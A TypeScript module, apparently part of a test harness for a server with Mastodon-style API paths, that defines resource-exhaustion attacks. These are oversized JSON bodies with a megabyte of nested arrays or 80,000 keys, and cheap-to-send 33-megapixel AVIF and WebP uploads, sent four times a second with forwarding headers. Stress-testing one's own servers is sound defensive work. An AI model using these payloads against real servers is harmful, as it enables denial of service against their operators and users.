import sharp from 'sharp';
import type { Attack, HostileSite } from './attack.ts';
import { atPace, FORWARDED, many, MEGABYTE } from './attacker.ts';

function jsonAttack(name: string, body: string): Attack {
  return {
    name: `JSON to POST /api/v1/apps, ${name}`,
    run: ({ site }, signal) =>
      atPace(4, signal, () =>
        fetch(`${site.url}/api/v1/apps`, {
          method: 'POST',
          headers: { ...FORWARDED, 'content-type': 'application/json' },
          body,
          signal,
        }),
      ),
  };
}

const keys = Array.from({ length: 80_000 }, (_, index) => `"k${index}":1`).join(',');

/** Uploads one file under these names, four times a second. The form is written once, so that sending it costs the attacker little. */
export const sendPictures =
  (method: string, path: string, names: string[], picture: () => Uint8Array<ArrayBuffer>, type: string) =>
  async ({ site, attacker }: HostileSite, signal: AbortSignal): Promise<void> => {
    const form = new FormData();
    for (const name of names) form.set(name, new Blob([picture()], { type }), 'picture');
    const written = new Response(form);
    const headers = {
      ...FORWARDED,
      authorization: `Bearer ${attacker.token}`,
      'content-type': written.headers.get('content-type') ?? '',
    };
    const body = await written.arrayBuffer();
    await atPace(4, signal, () => fetch(`${site.url}${path}`, { method, headers, body, signal }));
  };

let avif = new Uint8Array();
let webp = new Uint8Array();

/** JSON and pictures that cost their sender few bytes. */
export const HEAVY_ATTACKS: readonly Attack[] = [
  jsonAttack('1 MB of arrays', `{"client_name":"x","a":[${many(MEGABYTE, '[]')}]}`),
  jsonAttack('80,000 keys', `{"client_name":"x",${keys}}`),
  jsonAttack('100 kB of values', `{"client_name":"x","a":[${many(99_000, '{}')}]}`),
  {
    name: 'pictures: two AVIFs of 33 megapixels to update_credentials',
    prepare: async () => {
      const create = { width: 5_760, height: 5_760, channels: 3, background: 'red' } as const;
      avif = new Uint8Array(await sharp({ create }).avif({ effort: 0 }).toBuffer());
    },
    run: sendPictures(
      'PATCH',
      '/api/v1/accounts/update_credentials',
      ['avatar', 'header'],
      () => avif,
      'image/avif',
    ),
  },
  {
    name: 'pictures: WebP of 33 megapixels to media',
    prepare: async () => {
      const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
      const rough = await sharp({
        create: { width: 720, height: 720, channels: 3, background: 'gray', noise },
      })
        .png()
        .toBuffer();
      webp = new Uint8Array(
        await sharp(rough).resize(5_760, 5_760).webp({ quality: 50, effort: 0 }).toBuffer(),
      );
    },
    run: sendPictures('POST', '/api/v2/media', ['file'], () => webp, 'image/webp'),
  },
];
